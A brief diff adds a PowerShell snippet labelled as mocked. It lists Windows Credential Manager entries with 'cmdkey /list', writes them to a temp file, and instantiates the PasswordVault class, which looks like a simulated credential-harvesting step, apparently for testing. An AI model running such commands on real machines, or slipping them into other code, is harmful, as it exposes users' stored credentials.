@@ -0,0 +1,4 @@
+# Mocked: enumerate Windows Credential Manager entries
+cmdkey /list | Out-File "$env:TEMP\c.txt"
+[void][Windows.Security.Credentials.PasswordVault,Windows.Security.Credentials,ContentType=WindowsRuntime]
+$vault = New-Object Windows.Security.Credentials.PasswordVault